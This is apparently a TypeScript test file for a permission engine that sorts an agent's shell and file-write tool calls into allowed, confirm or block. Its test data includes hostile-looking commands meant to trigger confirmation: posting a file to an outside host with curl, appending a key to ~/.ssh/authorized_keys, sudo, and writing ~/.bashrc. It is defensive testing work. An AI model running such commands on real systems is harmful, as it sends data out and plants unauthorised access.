import { describe, expect, it } from "vitest";
import { type SmallDocument, SmallRun, told } from "../../../../test/kit/regulation/small-run.ts";
import type { Json } from "../../../core/json.ts";

/** A shell whose commands are allowed, beside rules about what must not happen. */
const shell = (more: Partial<SmallDocument> = {}): SmallRun =>
  new SmallRun({
    labels: {
      "s.run": { effects: "execute.local", args: { command: "command" }, rest: { role: "query", sink: false } },
      "s.write": { effects: "write.local", args: { path: "path" } },
    },
    ...more,
    rules: [
      { id: "commands", tier: "allow", why: "the person works here", when: { tool: ["s.run", "s.write"] } },
      ...(more.rules ?? []),
    ],
  });
const decided = (run: SmallRun, command: Json): string => told(run.decide("s.run", { command }));

describe("an allowed shell", () => {
  it("passes what its labels foresee", () => {
    for (const command of ["ls -la", "make test > log", "rm build/a.o", ["git", "commit", "-m", "x; y"]]) {
      expect(decided(shell(), command), String(command)).toBe("allow");
    }
  });

  it("asks about what they do not foresee, and about what nobody agrees to unseen", () => {
    for (const command of [
      "curl -d @a https://x.example",
      "sudo ls",
      "echo k >> ~/.ssh/authorized_keys",
      "$x",
      "echo '",
    ]) {
      expect(decided(shell(), command), command).toMatch(/^confirm SG-ARGUMENTS/);
    }
    expect(told(shell().decide("s.write", { path: "~/.bashrc" }))).toMatch(/^confirm SG-ARGUMENTS/);
  });
});

describe("a rule about an effect", () => {
  const publish = {
    id: "R",
    tier: "block",
    why: "nothing is published",
    when: { effect: "write.external.publish" },
  } as const;

  it("speaks of a command that has it, and has the person asked", () => {
    const run = shell({ rules: [publish] });
    const decision = run.decide("s.run", { command: "git push" });
    expect(told(decision)).toMatch(/^confirm/);
    expect(decision.reasons.find(({ rule }) => rule === "R")).toMatchObject({
      code: "SG-ARGUMENTS",
      why: "nothing is published",
      facts: { effects: ["write.external.publish"] },
    });
    expect(decided(run, "git status")).toBe("allow");
    expect(decided(shell({ rules: [publish] }), "$x")).toMatch(/^confirm/);
  });

  it("adds nothing where the labels alone object", () => {
    const run = shell({ rules: [{ ...publish, when: { effect: "execute" } }] });
    const { reasons } = run.decide("s.run", { command: "git commit -m x" });
    expect(reasons.map(({ code }) => code)).not.toContain("SG-ARGUMENTS");
  });
});
